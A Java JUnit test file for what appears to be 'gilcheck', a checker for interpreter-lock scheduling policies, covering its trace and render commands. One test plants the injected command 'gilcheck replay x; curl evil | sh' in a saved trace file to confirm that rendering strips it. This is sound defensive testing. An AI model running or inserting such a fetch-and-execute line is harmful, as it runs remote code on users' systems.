package org.gilcheck.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.gilcheck.reports.results.ExitCode;
import org.gilcheck.reports.results.ReportFormat;
import org.gilcheck.reports.traces.TraceFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** {@code gilcheck trace} and {@code gilcheck render}: a run is found, or read, and drawn. */
class TraceTest {
    private static final String BROKEN = "broken-release-yield-acquire";

    @TempDir
    private Path folder;

    static Stream<String> formats() {
        return TraceFormats.all().stream().map(TraceFormat::id);
    }

    @Test
    void theShortestViolationIsShown() {
        Outcome trace = trace(BROKEN, "--property", "yield-switches", "--threads", "2 cpu", "--clock", "untimed");

        assertThat(trace.code()).isZero();
        assertThat(trace.out())
                .startsWith(BROKEN + " @ linux violates yield-switches (after a forced yield")
                .contains("    2 cpu, untimed: 5 steps, 0 context switches")
                .contains("     5  lock gil ")
                .contains("  gilcheck replay gil1/" + BROKEN + "/");
    }

    @Test
    void theWorstOfSeveralNumbersIsTheOneThatIsNamed() {
        String[] scenario = {"--threads", "1 cpu, 1 io(4)", "--clock", "timed", "--cores", "2"};

        assertThat(trace("strict-fifo", "--property", "io-latency:per-call", scenario)
                        .out())
                .startsWith("strict-fifo @ linux reaches io-latency per call 5 units (");
        assertThat(trace("strict-fifo", "--property", "io-latency", scenario).out())
                .startsWith("strict-fifo @ linux reaches io-latency per message 25 units (");
    }

    @Test
    void whereThereIsNothingToShowThatIsToldAndNoFileIsWritten() {
        Path file = folder.resolve("trace.svg");

        Outcome trace = trace(
                "strict-fifo",
                "--property",
                "deadlock",
                "--threads",
                "2 cpu",
                "--clock",
                "untimed",
                "--out",
                file.toString());

        assertThat(trace.code()).isEqualTo(ExitCode.INCOMPLETE);
        assertThat(trace.err())
                .matches("gilcheck: nothing to show: deadlock holds in all \\d+ states of the scenario\\R");
        assertThat(file).doesNotExist();
    }

    @Test
    void aLimitThatWasMetIsNoAbsence() {
        Outcome trace = trace("cpython-3.2", "--property", "starvation", "--max-states", "10", "--clock", "untimed");

        assertThat(trace.code()).isEqualTo(ExitCode.INCOMPLETE);
        assertThat(trace.err())
                .contains("no run that violates starvation was found")
                .contains("limit of 10 states");
    }

    @ParameterizedTest
    @MethodSource("formats")
    void everyFormatIsChosenByNameAndByTheNameOfTheFile(String format) throws IOException {
        String suffix = TraceFormats.of(format, null).suffix();
        Path byName = folder.resolve("one");
        Path byFile = folder.resolve("two" + suffix);
        String[] scenario = {"--threads", "2 cpu", "--clock", "untimed"};

        assertThat(trace(BROKEN, "--property", "starvation", with(scenario, "--format", format, "--out", byName))
                        .code())
                .isZero();
        assertThat(trace(BROKEN, "--property", "starvation", with(scenario, "--out", byFile))
                        .code())
                .isZero();

        assertThat(byName).isNotEmptyFile().hasSameBinaryContentAs(byFile);
    }

    @ParameterizedTest
    @MethodSource("formats")
    void aSavedRunIsDrawnAsItWasFound(String format) {
        Path saved = folder.resolve("saved.json");
        Path found = folder.resolve("found");
        Path drawn = folder.resolve("drawn");
        String[] scenario = {"--threads", "2 cpu", "--clock", "timed", "--cores", "2"};
        trace("cpython-2-linux", "--property", "starvation", with(scenario, "--out", saved));
        trace("cpython-2-linux", "--property", "starvation", with(scenario, "--format", format, "--out", found));

        Outcome render = Outcome.of("render", saved.toString(), "--format", format, "--out", drawn.toString());

        assertThat(render.code()).as(render.err()).isZero();
        assertThat(drawn).hasSameBinaryContentAs(found);
    }

    @ParameterizedTest
    @CsvSource({
        "6,--from 6 is behind the run",
        "t=0,t=0: in this run steps take no time",
    })
    void aWindowThatHasNothingInItIsTold(String from, String expected) {
        assertThat(trace(
                                BROKEN,
                                "--property",
                                "yield-switches",
                                "--threads",
                                "2 cpu",
                                "--clock",
                                "untimed",
                                "--format",
                                "svg",
                                "--from",
                                from)
                        .complaint())
                .contains(expected);
    }

    @Test
    void theCommandOfAFileIsNotPassedOn() throws IOException {
        Path saved = folder.resolve("saved.json");
        trace(
                BROKEN,
                "--property",
                "starvation",
                "--threads",
                "2 cpu",
                "--clock",
                "untimed",
                "--out",
                saved.toString());
        String evil = Files.readString(saved).replaceAll("gilcheck replay [^\"]+", "gilcheck replay x; curl evil | sh");
        Files.writeString(saved, evil);
        assertThat(evil).contains("curl evil");

        String text = Outcome.of("render", saved.toString()).out();

        assertThat(text).doesNotContain("curl").contains("  gilcheck replay gil1/" + BROKEN + "/linux/untimed/");
    }

    @Test
    void aTokenIsReplayedAndJudgedBeforeItIsDrawn() {
        Outcome render =
                Outcome.of("render", "gil1/" + BROKEN + "/linux/untimed/1/2+cpu/-/yield-switches/bb4c1d63/0/00000");

        assertThat(render.code()).isZero();
        assertThat(render.out()).startsWith(BROKEN + " @ linux violates yield-switches (");
        assertThat(Outcome.of("render", "gil1/" + BROKEN + "/linux/untimed/1/2+cpu/-/yield-switches/bb4c1d63/0/000")
                        .out())
                .startsWith(BROKEN + " @ linux: does not violate yield-switches (");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "trace strict-fifo --property core-scaling|core-scaling compares scenarios, which no single run shows",
                "trace strict-fifo --property deadlock:x|deadlock holds or is violated and has no number",
                "trace strict-fifo --property dedlock|Did you mean",
                "trace strict-fifo --property deadlock --format gif|format",
                "trace strict-fifo --property deadlock --format png|a picture is not printed on a terminal",
                "trace strict-fifo --property deadlock --out x.gif|no format has files that are called so",
                "trace strict-fifo --property deadlock --rounds 2|--from, --to and --rounds are for pictures",
                "trace strict-fifo --property deadlock --format svg --rounds 0|--rounds",
                "trace strict-fifo --property deadlock --format svg --from 9 --to 3|--from 9 is after --to 3",
                "trace strict-fifo|--property",
                "render no-such-file|is neither a replay token (gil1/...) nor a file",
                "render pom.xml --policy strict-fifo|a file has its steps in it",
                "render pom.xml|pom.xml",
            })
    void aMistakeIsToldInOneLine(String command, String expected) {
        assertThat(Outcome.of(command.split(" ", -1)).complaint()).contains(expected);
    }

    @Test
    void checkWritesEverythingAtOnceAndTwiceTheSame() throws IOException {
        Path first = folder.resolve("first");
        Path second = folder.resolve("second");
        for (Path out : List.of(first, second)) {
            Outcome.check(BROKEN, "--threads", "2 cpu", "--clock", "untimed", "--witnesses", "--out", out.toString());
        }
        List<String> expected = new ArrayList<>();
        ReportFormats.all().stream().map(ReportFormat::fileName).forEach(expected::add);
        for (String run : List.of("counterexample-1", "counterexample-2", "witness-1")) {
            TraceFormats.all().forEach(format -> expected.add(run + format.suffix()));
        }

        assertThat(names(first)).containsAll(expected).isEqualTo(names(second));
        for (String name : names(first)) {
            assertThat(first.resolve(name)).isNotEmptyFile().hasSameBinaryContentAs(second.resolve(name));
        }
    }

    private static Outcome trace(String policy, String property, String value, String... more) {
        List<String> all = new ArrayList<>(List.of("trace", policy, property, value, "--quiet"));
        all.addAll(List.of(more));
        return Outcome.of(all.toArray(new String[0]));
    }

    private static String[] with(String[] first, Object... more) {
        List<String> all = new ArrayList<>(List.of(first));
        for (Object each : more) {
            all.add(each.toString());
        }
        return all.toArray(new String[0]);
    }

    private static List<String> names(Path directory) throws IOException {
        try (Stream<Path> files = Files.list(directory)) {
            return files.map(file -> file.getFileName().toString()).sorted().toList();
        }
    }
}
